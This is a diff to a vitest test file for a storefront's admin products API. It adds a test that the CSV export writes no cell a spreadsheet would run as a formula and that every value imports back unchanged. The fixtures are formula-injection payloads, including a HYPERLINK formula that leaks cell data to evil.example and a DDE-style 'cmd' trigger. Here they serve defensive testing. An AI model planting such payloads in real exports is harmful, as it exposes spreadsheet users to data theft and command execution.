@@ -6,6 +6,7 @@ import type {
   ProductCreateInput,
   ProductImportResult,
 } from '@storefront/contract';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { stores } from '../../db/schema';
 import { seedProducts } from '../../db/seed/sample-products';
@@ -54,6 +55,10 @@ describe.each(drivers)('back-office products API on %s', (driver) => {
     asStaff(t.app, cookie, { method: 'POST', url: '/api/v1/admin/products', payload });
   const publicProduct = (id: string) =>
     t.app.inject({ method: 'GET', url: `/api/v1/products/${id}` });
+  const adminProduct = async (id: string) =>
+    (
+      await asStaff(t.app, owner, { method: 'GET', url: `/api/v1/admin/products/${id}` })
+    ).json<AdminProduct>();
 
   it('creates a product with its variants, shown on the storefront with its stock', async () => {
     const response = await create(kurta);
@@ -361,6 +366,62 @@ describe.each(drivers)('back-office products API on %s', (driver) => {
       expect(result.errors).toEqual([]);
       expect(result.created).toBe(0);
       expect(result.updated).toBeGreaterThan(seedProducts.length);
+      const again = await asStaff(t.app, owner, {
+        method: 'GET',
+        url: '/api/v1/admin/products/export',
+      });
+      expect(again.body).toBe(exported.body);
+    });
+
+    it('writes no cell a spreadsheet would run as a formula, and imports every one back as it was', async () => {
+      // Each dangerous first character (a tab or a carriage return cannot start a text the
+      // catalogue keeps: it trims them), and texts that really start with an apostrophe; with
+      // the start of an attribute's key, which cannot hold "=" (it separates key and values).
+      const texts = [
+        ['=HYPERLINK("https://evil.example/?"&A1,"Click")', ''],
+        ['+SUM(1,2)', '+'],
+        ['-2+3+cmd!A0', '-'],
+        ['@SUM(1+1)', '@'],
+        ["'=already marked as text", "'+"],
+        ["''@twice", "''@"],
+        ["'plain apostrophe", "'"],
+      ] as const;
+      const ids: string[] = [];
+      for (const [index, [text, keyStart]] of texts.entries()) {
+        const response = await create({
+          title: `${text} #${index}`,
+          description: `${text}\nand a second line`,
+          category: 'Home',
+          regularPrice: 100,
+          sizes: ['One Size'],
+          colors: [`${text.slice(0, 30)} ${index}`],
+          images: [{ url: '/images/products/kurta.svg', alt: text }],
+          attributes: [{ key: `${keyStart}material ${index}`, value: ['=steel', '-12.50'] }],
+          manufacturer: text,
+        });
+        expect(response.statusCode, response.body).toBe(201);
+        ids.push(response.json<AdminProduct>().id);
+      }
+      const before = await Promise.all(ids.map(adminProduct));
+
+      const exported = await asStaff(t.app, owner, {
+        method: 'GET',
+        url: '/api/v1/admin/products/export',
+      });
+      const cells = (parse(exported.body) as string[][]).flat();
+      const formulas = cells.filter(
+        (cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell),
+      );
+      expect(formulas).toEqual([]);
+      expect(cells).toContain(`'${texts[0][0]} #0`);
+      expect(cells).toContain(`'${texts[4][0]} #4`);
+      expect(cells).toContain(`${texts[6][0]} #6`);
+
+      const applied = (await importCsv(exported.body, false)).json<ProductImportResult>();
+      expect(applied.errors).toEqual([]);
+      expect(await Promise.all(ids.map(adminProduct))).toEqual(
+        before.map((product) => ({ ...product, updatedAt: expect.any(String) })),
+      );
       const again = await asStaff(t.app, owner, {
         method: 'GET',
         url: '/api/v1/admin/products/export',
